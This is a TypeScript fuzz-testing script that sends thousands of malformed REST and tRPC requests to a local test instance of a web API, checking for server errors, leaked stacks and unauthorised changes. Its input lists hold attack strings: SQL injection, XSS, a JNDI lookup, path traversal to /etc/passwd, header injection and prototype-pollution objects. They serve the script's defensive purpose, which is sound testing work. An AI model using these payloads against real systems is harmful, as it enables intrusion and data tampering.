// bench/fuzz: thousands of malformed requests against every operation of /api/openapi.json —
// wrong types, missing and extra fields, huge and unicode strings, nulls, bad ids, broken JSON,
// wrong content types, junk credentials — first as an anonymous client, then as a signed-in admin.
// Every operation is driven through both doors: REST under /api, its path tried in several
// spellings (case, dot segments, trailing slash), and tRPC under /trpc, single and batched, with
// the same mutated inputs. It fails (exit 1) on any 5xx, on any REST error body that is not
// `{ message, code, issues? }`, on a tRPC error that is not JSON or carries a stack, on an
// anonymous call that succeeds where only an admin may, and on any data an anonymous request
// changed (a database snapshot before and after; the public writes, contact and newsletter, may
// only add the rows they acknowledged).
//
//   node bench/fuzz.ts [--count 10000] [--seed 1]
//
// --count is per identity (anonymous, admin), shared between the doors. Requests go through
// Fastify's inject (the whole plugin chain, without sockets; it resolves dot segments as a proxy
// would); rate limits are off so the fuzz reaches validation.
import { API_TOKEN_PREFIX, appRouter } from "@chamber/api";
import type { Database } from "@chamber/db";
import { ADMIN_EMAIL, ADMIN_PASSWORD, benchApp, numberArg, openBenchDatabase, parseArgs } from "./lib/setup.ts";

const args = parseArgs(process.argv.slice(2));
const perIdentity = numberArg(args, "count", 10_000);
const seed = numberArg(args, "seed", 1);

// ---- a small seeded PRNG, so a failing run can be replayed ----
let state = seed >>> 0 || 1;
function random(): number {
  state = (state + 0x6d2b79f5) >>> 0;
  let t = state;
  t = Math.imul(t ^ (t >>> 15), t | 1);
  t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
}
const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;
const chance = (p: number) => random() < p;

// ---- the OpenAPI document ----
interface Schema {
  type?: string | string[];
  format?: string;
  pattern?: string;
  minimum?: number;
  maximum?: number;
  maxLength?: number;
  properties?: Record<string, Schema>;
  required?: string[];
  items?: Schema;
  anyOf?: Schema[];
  oneOf?: Schema[];
  const?: unknown;
  default?: unknown;
}
interface Parameter {
  in: "path" | "query" | "header";
  name: string;
  schema?: Schema;
  example?: unknown;
}
interface Operation {
  method: string;
  path: string;
  parameters: Parameter[];
  body?: Schema;
  /** The tRPC procedure behind it ("business.list") and its kind. */
  procedure?: { name: string; type: "query" | "mutation" };
}

/** Every procedure of the router, by its REST twin's "METHOD /api/path". */
function proceduresByRestPath(): Map<string, { name: string; type: "query" | "mutation" }> {
  const procedures = appRouter._def.procedures as unknown as Record<
    string,
    { _def: { type: string; meta?: { openapi?: { method: string; path: string } } } }
  >;
  const byPath = new Map<string, { name: string; type: "query" | "mutation" }>();
  for (const [name, procedure] of Object.entries(procedures)) {
    const openapi = procedure._def.meta?.openapi;
    const type = procedure._def.type;
    if (openapi && (type === "query" || type === "mutation"))
      byPath.set(`${openapi.method.toUpperCase()} /api${openapi.path}`, { name, type });
  }
  return byPath;
}

function operationsOf(document: {
  paths: Record<
    string,
    Record<string, { parameters?: Parameter[]; requestBody?: { content?: Record<string, { schema?: Schema }> } }>
  >;
}): Operation[] {
  const operations: Operation[] = [];
  const procedures = proceduresByRestPath();
  for (const [path, methods] of Object.entries(document.paths)) {
    for (const [method, operation] of Object.entries(methods)) {
      operations.push({
        method: method.toUpperCase(),
        path: `/api${path}`,
        parameters: operation.parameters ?? [],
        body: operation.requestBody?.content?.["application/json"]?.schema,
        procedure: procedures.get(`${method.toUpperCase()} /api${path}`),
      });
    }
  }
  return operations;
}

// ---- plausible values from a schema (the base each mutation starts from) ----
let serial = 0;
function sample(schema: Schema | undefined, name = ""): unknown {
  if (!schema) return "Ojai";
  const variants = schema.anyOf ?? schema.oneOf;
  if (variants) return sample(variants.find((v) => v.type !== "null" && v.const === undefined) ?? variants[0], name);
  const type = Array.isArray(schema.type) ? schema.type.find((t) => t !== "null") : schema.type;
  switch (type) {
    case "object":
      return Object.fromEntries(
        Object.entries(schema.properties ?? {}).map(([key, value]) => [key, sample(value, key)]),
      );
    case "array":
      return [sample(schema.items)];
    case "integer":
    case "number":
      return schema.minimum !== undefined ? Math.max(schema.minimum, 1) : 1;
    case "boolean":
      return true;
    default: {
      serial++;
      if (/email/i.test(name)) return `fuzz-${seed}-${serial}@example.com`;
      if (/website|url/i.test(name)) return "https://fuzz.example";
      if (/date|At$/.test(name) || schema.format === "date-time")
        return new Date(Date.now() + 86_400_000).toISOString();
      if (name === "slug") return `fuzz-${serial}`;
      if (name === "key") return `fuzz.key-${serial}`;
      if (name === "password") return "not-the-password";
      return "Ojai Valley";
    }
  }
}

// ---- the mutations ----
const unicode = [
  "𝓞𝓳𝓪𝓲 🍊🌄",
  "\u202Egnp.exe",
  "a\u0000b",
  "\ud800",
  "Z̸̡̢̛a̵̧͝l̷g̶o̴",
  "\uFEFF\u200B\u200D",
  "مرحبا بكم في أوهاي",
  "オーハイ",
  "<script>alert(1)</script>",
  '\'; DROP TABLE "Business"; --',
  `\${jndi:ldap://x.example/a}`,
  "../../../../etc/passwd",
  "%00%0d%0aSet-Cookie: a=b",
  "\\u0000",
];
const hugeString = () => "Ω".repeat(pick([1_000, 10_001, 100_001, 600_000]));
const wrongValues = (): unknown[] => [
  null,
  0,
  -1,
  1.5,
  1e308,
  -2147483649,
  "9007199254740993",
  Number.MAX_SAFE_INTEGER + 2,
  true,
  false,
  "",
  "   ",
  [],
  {},
  [1, "two", null],
  { $gt: "" },
  { toString: "x" },
  "1",
  "true",
  "null",
  "2026-02-30T25:61:61Z",
  pick(unicode),
  hugeString(),
];
const badIds = [
  "0",
  "-1",
  "1.5",
  "abc",
  "1e3",
  "0x10",
  "99999999999999999999999",
  "2147483648",
  "%00",
  "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  "1%20OR%201=1",
  "%F0%9F%8D%8A",
  "null",
  "undefined",
  "[1]",
  "Ω".repeat(300),
  "%ZZ",
  "999999",
];
const extraFields: Record<string, unknown>[] = [
  JSON.parse('{"__proto__": {"polluted": true}}') as Record<string, unknown>,
  { constructor: { prototype: { polluted: true } } },
  { id: 424242, createdAt: "1999-01-01T00:00:00Z", updatedAt: "x", isActive: false },
  { [`extra_${Math.floor(random() * 1e6)}`]: pick(unicode) },
  { passwordHash: "x", admin: true, role: "admin" },
];
const brokenJson = [
  '{"name": "x"',
  "{name: 'x'}",
  '{"a":1,}',
  "[",
  "}",
  "nul",
  '{"a": "\\ud800"}',
  '{"a": 1e99999}',
  "\u0000\u0001\u0002",
  "{".repeat(2000),
  `${"[".repeat(5000)}${"]".repeat(5000)}`,
  '{"__proto__": {"x": 1}, "a": }',
];
const wrongContentTypes = [
  "text/plain",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=fuzz",
  "application/xml",
  "application/json; charset=utf-16",
  "application/octet-stream",
  "application/vnd.api+json",
  "*/*",
];
const junkCredentials = [
  "Bearer",
  "Bearer ",
  "Bearer x",
  `Bearer ${"A".repeat(5000)}`,
  `Bearer ${API_TOKEN_PREFIX}${"0".repeat(40)}`,
  "Basic YWRtaW46YWRtaW4=",
  "Bearer null",
  "Bearer ../../",
  "Bearer 🍊",
];

interface FuzzRequest {
  method: string;
  url: string;
  headers: Record<string, string>;
  payload?: string;
  kind: string;
  door: Door;
  /** The procedures a tRPC request calls, in batch order. */
  calls: Operation[];
  /** How a REST path was spelled. */
  spelling?: string;
}

type Door = "REST" | "tRPC single" | "tRPC batch";

function fill(path: string, params: Parameter[], mutateParam: boolean): string {
  return path.replace(/\{(\w+)\}/g, (_match, name: string) => {
    if (mutateParam) return pick(badIds);
    const param = params.find((p) => p.name === name);
    return encode(String(param?.example ?? (name === "id" ? 1 : "fuzz")));
  });
}

/** Percent-encodes, sending a lone surrogate as the invalid UTF-8 bytes it would be. */
function encode(text: string): string {
  try {
    return encodeURIComponent(text);
  } catch {
    return "%ED%A0%80";
  }
}

function query(params: Parameter[]): string {
  const parts: string[] = [];
  for (const param of params.filter((p) => p.in === "query")) {
    if (chance(0.3)) continue;
    const value = chance(0.5) ? pick(wrongValues()) : sample(param.schema, param.name);
    const text = typeof value === "string" ? value : JSON.stringify(value);
    parts.push(`${encode(param.name)}=${encode(text ?? "")}`);
    if (chance(0.15)) parts.push(`${encode(param.name)}=second`);
  }
  if (chance(0.2)) parts.push(`unknown=${encode(pick(unicode))}`);
  if (chance(0.05)) parts.push("%ZZ=%ZZ");
  return parts.length > 0 ? `?${parts.join("&")}` : "";
}

function mutateBody(schema: Schema): { payload: string; contentType?: string; kind: string } {
  const base = sample(schema) as Record<string, unknown>;
  const fields = Object.keys(schema.properties ?? {});
  const roll = random();
  if (roll < 0.15 && (schema.required?.length ?? 0) > 0) {
    const field = pick(schema.required ?? []);
    delete base[field];
    return { payload: JSON.stringify(base), kind: "missing field" };
  }
  if (roll < 0.4 && fields.length > 0) {
    for (let n = 1 + Math.floor(random() * 2); n > 0; n--) base[pick(fields)] = pick(wrongValues());
    return { payload: JSON.stringify(base), kind: "wrong type" };
  }
  if (roll < 0.5 && fields.length > 0) {
    base[pick(fields)] = chance(0.1) ? "x".repeat(1024 * 1024 + 10) : hugeString();
    return { payload: JSON.stringify(base), kind: "huge string" };
  }
  if (roll < 0.6 && fields.length > 0) {
    base[pick(fields)] = pick(unicode);
    return { payload: JSON.stringify(base), kind: "unicode" };
  }
  if (roll < 0.7) {
    const extra = pick(extraFields);
    const merged = chance(0.5)
      ? `${JSON.stringify(base).slice(0, -1)},${JSON.stringify(extra).slice(1)}`
      : JSON.stringify({ ...base, ...extra });
    return { payload: merged.replace(",}", "}"), kind: "extra fields" };
  }
  if (roll < 0.78) {
    return {
      payload: JSON.stringify(pick([null, [], [base], "text", 42, true, { data: base }])),
      kind: "wrong body type",
    };
  }
  if (roll < 0.88) return { payload: pick(brokenJson), kind: "broken JSON" };
  if (roll < 0.96) {
    const contentType = pick(wrongContentTypes);
    const payload = contentType.includes("urlencoded") ? "name=x&title=y" : JSON.stringify(base);
    return { payload, contentType, kind: "wrong content type" };
  }
  return { payload: "", kind: "empty body" };
}

/** The same REST path spelled as a client might: case, dot segments, a trailing slash. */
function respell(url: string): { url: string; spelling: string } {
  const at = url.indexOf("?");
  const [path, rest] = at < 0 ? [url, ""] : [url.slice(0, at), url.slice(at)];
  const tail = path.slice("/api".length);
  const spelling = pick<
    "upper case" | "mixed case" | "trailing slash" | "dot segment" | "parent segment" | "encoded dot"
  >(["upper case", "mixed case", "trailing slash", "dot segment", "parent segment", "encoded dot"]);
  const spelled = {
    "upper case": () => `/api${tail.toUpperCase()}`,
    "mixed case": () => `/api${[...tail].map((c) => (chance(0.5) ? c.toUpperCase() : c)).join("")}`,
    "trailing slash": () => `${path}/`,
    "dot segment": () => `/api/.${tail}`,
    "parent segment": () => `/api/fuzz/..${tail}`,
    "encoded dot": () => `/api/%2e${tail}`,
  }[spelling]();
  return { url: spelled + rest, spelling };
}

function generate(operation: Operation, anonymous: boolean): FuzzRequest {
  const headers: Record<string, string> = {};
  let kind = "";
  let method = operation.method;
  const hasPathParams = operation.path.includes("{");
  const mutateParam = hasPathParams && chance(0.35);
  if (mutateParam) kind = "bad path parameter";
  let url = fill(operation.path, operation.parameters, mutateParam) + query(operation.parameters);
  let payload: string | undefined;

  if (operation.body && !mutateParam) {
    const body = mutateBody(operation.body);
    payload = body.payload;
    kind = body.kind;
    headers["content-type"] = body.contentType ?? "application/json";
    if (body.contentType === undefined && chance(0.03)) delete headers["content-type"];
  } else if (!operation.body && chance(0.1)) {
    payload = pick(brokenJson);
    headers["content-type"] = "application/json";
    kind ||= "unexpected body";
  }
  if (chance(0.03)) {
    method = pick(["PATCH", "OPTIONS", "HEAD", "TRACE", "PROPFIND"]);
    kind = "unexpected method";
  }
  if (chance(0.03)) {
    url = `${url.split("?")[0]}/${pick(["..", "%2e%2e", "x", "", "%00"])}`;
    kind = "mangled path";
  }
  if (anonymous && chance(0.15)) headers.authorization = pick(junkCredentials);
  if (chance(0.03)) headers["content-encoding"] = pick(["gzip", "br", "deflate", "identity", "zstd"]);
  if (!kind) kind = url.includes("?") ? "bad query" : "plain";
  let spelling = "as written";
  if (chance(0.4)) ({ url, spelling } = respell(url));
  return { method, url, headers, payload, kind, door: "REST", calls: [], spelling };
}

/** The schema of a procedure's tRPC input: its path and query parameters and its body, in one object. */
function inputSchema(operation: Operation): Schema {
  const parameters = operation.parameters.filter((p) => p.in === "path" || p.in === "query");
  return {
    type: "object",
    properties: {
      ...Object.fromEntries(parameters.map((p) => [p.name, p.schema ?? { type: "string" }])),
      ...(operation.body?.properties ?? {}),
    },
    required: [...parameters.filter((p) => p.in === "path").map((p) => p.name), ...(operation.body?.required ?? [])],
  };
}

/** A mutated input for one call; `raw` is JSON text (or, now and then, not JSON at all). */
function trpcInput(operation: Operation): { raw: string; kind: string; contentType?: string } {
  const mutated = mutateBody(inputSchema(operation));
  return { raw: mutated.payload, kind: mutated.kind, contentType: mutated.contentType };
}

const trpcUrl = (names: string[], batch: boolean, input?: string) => {
  const query = [batch ? "batch=1" : "", input !== undefined ? `input=${encode(input)}` : ""].filter(Boolean);
  return `/trpc/${names.join(",")}${query.length > 0 ? `?${query.join("&")}` : ""}`;
};

/** A call of `operation`'s procedure over /trpc: alone, or in a batch with others of its kind. */
function generateTrpc(operation: Operation, operations: Operation[], anonymous: boolean): FuzzRequest {
  const procedure = operation.procedure as NonNullable<Operation["procedure"]>;
  const batched = chance(0.4);
  let calls = [operation];
  if (batched) {
    const sameType = operations.filter((op) => op.procedure?.type === procedure.type);
    // Mostly within the cap of 10, now and then past it (400) or mixing queries and mutations.
    const size = chance(0.05) ? 11 + Math.floor(random() * 5) : 1 + Math.floor(random() * 5);
    const pool = chance(0.1) ? operations.filter((op) => op.procedure) : sameType;
    calls = [operation, ...Array.from({ length: size - 1 }, () => pick(pool))];
  }
  const inputs = calls.map(trpcInput);
  const names = calls.map((call) => call.procedure?.name ?? "none");
  if (chance(0.05)) names[0] = pick([names[0]?.toUpperCase() ?? "", `${names[0]}/`, `x.${names[0]}`, "", "%00"]);
  const first = inputs[0] as ReturnType<typeof trpcInput>;
  const raw = batched
    ? chance(0.1)
      ? pick(brokenJson)
      : `{${inputs.map((input, index) => `"${index}":${input.raw || "null"}`).join(",")}}`
    : first.raw;
  const kind = batched ? `batch of ${calls.length}` : first.kind;
  const headers: Record<string, string> = {};
  if (anonymous && chance(0.15)) headers.authorization = pick(junkCredentials);
  const door: Door = batched ? "tRPC batch" : "tRPC single";
  if (procedure.type === "query" && !chance(0.05)) {
    return { method: "GET", url: trpcUrl(names, batched, raw), headers, kind, door, calls };
  }
  headers["content-type"] = first.contentType ?? "application/json";
  return { method: "POST", url: trpcUrl(names, batched), headers, payload: raw, kind, door, calls };
}

// ---- the database snapshot ----
async function snapshot(db: Database) {
  const p = db.prisma;
  const [businesses, events, news, boardMembers, pages, settings, contact, newsletter, admins, sessions, tokens] =
    await Promise.all([
      p.business.findMany({ orderBy: { id: "asc" } }),
      p.event.findMany({ orderBy: { id: "asc" } }),
      p.newsArticle.findMany({ orderBy: { id: "asc" } }),
      p.boardMember.findMany({ orderBy: { id: "asc" } }),
      p.page.findMany({ orderBy: { id: "asc" } }),
      p.setting.findMany({ orderBy: { key: "asc" } }),
      p.contactMessage.findMany({ orderBy: { id: "asc" } }),
      p.newsletterSubscription.findMany({ orderBy: { id: "asc" } }),
      p.adminUser.findMany({ orderBy: { id: "asc" } }),
      p.session.findMany({ orderBy: { id: "asc" } }),
      p.apiToken.findMany({ orderBy: { id: "asc" } }),
    ]);
  return {
    fixed: JSON.stringify({ businesses, events, news, boardMembers, pages, settings, admins, sessions, tokens }),
    contact,
    newsletter,
  };
}

// ---- the run ----
type App = Awaited<ReturnType<typeof benchApp>>;
interface Tally {
  requests: number;
  byDoor: Map<Door, number>;
  bySpelling: Map<string, number>;
  byStatus: Map<number, number>;
  byKind: Map<string, number>;
  byOperation: Map<string, number>;
  failures: string[];
  acknowledgedPublicWrites: { contact: number; newsletter: number };
}

const errorKeys = new Set(["message", "code", "issues"]);

function checkErrorShape(body: string): string | undefined {
  try {
    const parsed = JSON.parse(body) as Record<string, unknown>;
    if (typeof parsed !== "object" || parsed === null || Array.isArray(parsed)) return "not an object";
    const extra = Object.keys(parsed).filter((key) => !errorKeys.has(key));
    if (extra.length > 0) return `unexpected keys ${extra.join(",")}`;
    if (typeof parsed.message !== "string" || typeof parsed.code !== "string") return "message/code missing";
    if (parsed.issues !== undefined && !Array.isArray(parsed.issues)) return "issues is not an array";
    return undefined;
  } catch {
    return "not JSON";
  }
}

const publicOperations = new Set(["POST /api/contact", "POST /api/newsletter", "POST /api/auth/login"]);

async function fuzz(app: App, operations: Operation[], identity: "anonymous" | "admin", token: string): Promise<Tally> {
  const tally: Tally = {
    requests: 0,
    byDoor: new Map(),
    bySpelling: new Map(),
    byStatus: new Map(),
    byKind: new Map(),
    byOperation: new Map(),
    failures: [],
    acknowledgedPublicWrites: { contact: 0, newsletter: 0 },
  };
  // Signing out would end the admin pass's session; it is fuzzed anonymously.
  const targets = identity === "admin" ? operations.filter((op) => !/^\/api\/auth\/logout/.test(op.path)) : operations;
  for (let i = 0; i < perIdentity; i++) {
    const operation = targets[i % targets.length] as Operation;
    // Half the calls go through each door (the CSV exports have no tRPC twin).
    const request =
      operation.procedure && i % 2 === 1
        ? generateTrpc(operation, targets, identity === "anonymous")
        : generate(operation, identity === "anonymous");
    if (identity === "admin") request.headers.authorization = `Bearer ${token}`;
    const response = await app.inject({
      method: request.method as "GET",
      url: request.url,
      headers: request.headers,
      ...(request.payload !== undefined ? { payload: request.payload } : {}),
    });
    tally.requests++;
    tally.byDoor.set(request.door, (tally.byDoor.get(request.door) ?? 0) + 1);
    if (request.spelling) tally.bySpelling.set(request.spelling, (tally.bySpelling.get(request.spelling) ?? 0) + 1);
    tally.byStatus.set(response.statusCode, (tally.byStatus.get(response.statusCode) ?? 0) + 1);
    tally.byKind.set(request.kind, (tally.byKind.get(request.kind) ?? 0) + 1);
    const name = `${operation.method} ${operation.path}`;
    tally.byOperation.set(name, (tally.byOperation.get(name) ?? 0) + 1);

    const describe = () =>
      `${identity} ${request.door} ${request.method} ${request.url.slice(0, 160)} [${request.kind}] ${JSON.stringify(request.headers).slice(0, 120)} ${String(request.payload ?? "").slice(0, 160)} → ${response.statusCode} ${response.body.slice(0, 200)}`;
    if (response.statusCode >= 500) tally.failures.push(`5xx: ${describe()}`);
    else if (request.door !== "REST") {
      checkTrpcAnswer(request, response, identity, tally, describe);
      continue;
    } else if (response.statusCode >= 400 && request.method !== "HEAD" && request.url.startsWith("/api")) {
      const problem = checkErrorShape(response.body);
      if (problem) tally.failures.push(`error body ${problem}: ${describe()}`);
    }
    if (
      identity === "anonymous" &&
      response.statusCode < 300 &&
      request.method !== "GET" &&
      request.method !== "HEAD"
    ) {
      if (operation.path === "/api/contact" && request.method === "POST") tally.acknowledgedPublicWrites.contact++;
      else if (operation.path === "/api/newsletter" && request.method === "POST")
        tally.acknowledgedPublicWrites.newsletter++;
      else if (!publicOperations.has(name) && request.method !== "OPTIONS")
        tally.failures.push(`anonymous write accepted: ${describe()}`);
    }
    if (
      identity === "anonymous" &&
      response.statusCode < 300 &&
      /^\/api\/(settings|pages$|contact-messages|newsletter-subscriptions|auth\/me)/.test(request.url) &&
      request.method === "GET"
    ) {
      tally.failures.push(`anonymous read of admin data: ${describe()}`);
    }
  }
  return tally;
}

const publicProcedures = new Set(["contact.send", "newsletter.subscribe", "auth.login"]);

/**
 * A tRPC answer: JSON without a stack (the refusals of request-hygiene are in the REST shape), a
 * 5xx inside a batch is a failure as a 5xx answer is, and an anonymous call may succeed only on
 * reads and the public writes (each acknowledged contact or subscription is counted).
 */
function checkTrpcAnswer(
  request: FuzzRequest,
  response: { statusCode: number; body: string },
  identity: "anonymous" | "admin",
  tally: Tally,
  describe: () => string,
) {
  let parsed: unknown;
  try {
    parsed = JSON.parse(response.body);
  } catch {
    if (request.method !== "HEAD") tally.failures.push(`tRPC answer not JSON: ${describe()}`);
    return;
  }
  if (response.body.includes('"stack"')) tally.failures.push(`tRPC answer carries a stack: ${describe()}`);
  const items = Array.isArray(parsed) ? parsed : [parsed];
  items.forEach((item, index) => {
    const call = request.calls[index];
    const status = (item as { error?: { data?: { httpStatus?: number } } })?.error?.data?.httpStatus ?? 0;
    if (status >= 500) tally.failures.push(`5xx in call ${index} (${call?.procedure?.name}): ${describe()}`);
    if (identity !== "anonymous" || !call?.procedure || !(item && typeof item === "object" && "result" in item)) return;
    const name = call.procedure.name;
    if (name === "contact.send") tally.acknowledgedPublicWrites.contact++;
    else if (name === "newsletter.subscribe") tally.acknowledgedPublicWrites.newsletter++;
    else if (call.procedure.type === "mutation" && !publicProcedures.has(name))
      tally.failures.push(`anonymous tRPC write accepted (${name}): ${describe()}`);
    else if (call.procedure.type === "query" && /^(setting|contact|newsletter)\.|^page\.list$|^auth\.me$/.test(name))
      tally.failures.push(`anonymous tRPC read of admin data (${name}): ${describe()}`);
  });
}

function report(identity: string, tally: Tally, seconds: number) {
  const statuses = [...tally.byStatus].sort(([a], [b]) => a - b).map(([status, n]) => `${status}×${n}`);
  console.log(
    `\n${identity}: ${tally.requests} requests in ${seconds.toFixed(1)} s across ${tally.byOperation.size} operations`,
  );
  console.log(`  statuses: ${statuses.join(" ")}`);
  console.log(`  doors: ${[...tally.byDoor].map(([door, n]) => `${door} ${n}`).join(", ")}`);
  console.log(`  REST spellings: ${[...tally.bySpelling].map(([spelling, n]) => `${spelling} ${n}`).join(", ")}`);
  console.log(`  kinds: ${[...tally.byKind].map(([kind, n]) => `${kind} ${n}`).join(", ")}`);
}

async function main() {
  console.log(
    `Setting up: embedded PostgreSQL in a temp dir, seed content; ${perIdentity} requests per identity, seed ${seed}…`,
  );
  const setup = await openBenchDatabase(30);
  const app = await benchApp(setup.db, { rateLimits: false });
  let failed = false;
  let summary = "no requests";
  try {
    const document = (await app.inject({ url: "/api/openapi.json" })).json();
    const operations = operationsOf(document);
    console.log(`${operations.length} operations in /api/openapi.json`);

    const before = await snapshot(setup.db);
    let started = performance.now();
    const anonymous = await fuzz(app, operations, "anonymous", "");
    report("anonymous", anonymous, (performance.now() - started) / 1000);
    const after = await snapshot(setup.db);

    if (after.fixed !== before.fixed)
      anonymous.failures.push("anonymous requests changed data outside contact messages and subscriptions");
    for (const [table, rowsBefore, rowsAfter, acknowledged] of [
      ["ContactMessage", before.contact, after.contact, anonymous.acknowledgedPublicWrites.contact],
      ["NewsletterSubscription", before.newsletter, after.newsletter, anonymous.acknowledgedPublicWrites.newsletter],
    ] as const) {
      const kept = JSON.stringify(rowsAfter.slice(0, rowsBefore.length)) === JSON.stringify(rowsBefore);
      const added = rowsAfter.length - rowsBefore.length;
      if (!kept) anonymous.failures.push(`anonymous requests changed existing ${table} rows`);
      if (added > acknowledged)
        anonymous.failures.push(`${table}: ${added} rows added but only ${acknowledged} requests acknowledged`);
      console.log(
        `  ${table}: ${added} rows added by ${acknowledged} acknowledged public writes; existing rows ${kept ? "unchanged" : "CHANGED"}`,
      );
    }
    console.log(`  other tables: ${after.fixed === before.fixed ? "unchanged" : "CHANGED"}`);

    const login = await app.inject({
      method: "POST",
      url: "/api/auth/login",
      payload: { email: ADMIN_EMAIL, password: ADMIN_PASSWORD },
    });
    const token = login.json<{ token: string }>().token;
    started = performance.now();
    const admin = await fuzz(app, operations, "admin", token);
    report("admin", admin, (performance.now() - started) / 1000);

    const failures = [...anonymous.failures, ...admin.failures];
    const fiveHundreds = failures.filter((failure) => failure.startsWith("5xx")).length;
    const sent = (door: Door) => (anonymous.byDoor.get(door) ?? 0) + (admin.byDoor.get(door) ?? 0);
    summary = `${anonymous.requests + admin.requests} requests (REST ${sent("REST")}, tRPC ${sent("tRPC single") + sent("tRPC batch")}: ${sent("tRPC single")} single, ${sent("tRPC batch")} batched), ${fiveHundreds} answered 5xx, ${failures.length} failures`;
    for (const failure of failures.slice(0, 30)) console.log(`  ${failure}`);
    if (failures.length > 30) console.log(`  … and ${failures.length - 30} more`);
    failed = failures.length > 0;
  } finally {
    await app.close();
    await setup.close();
  }
  console.log(
    failed
      ? `\nFUZZ FAILED: ${summary}`
      : `\nFUZZ PASSED: ${summary}; every error in its door's shape, no anonymous change`,
  );
  if (failed) process.exitCode = 1;
}

await main();
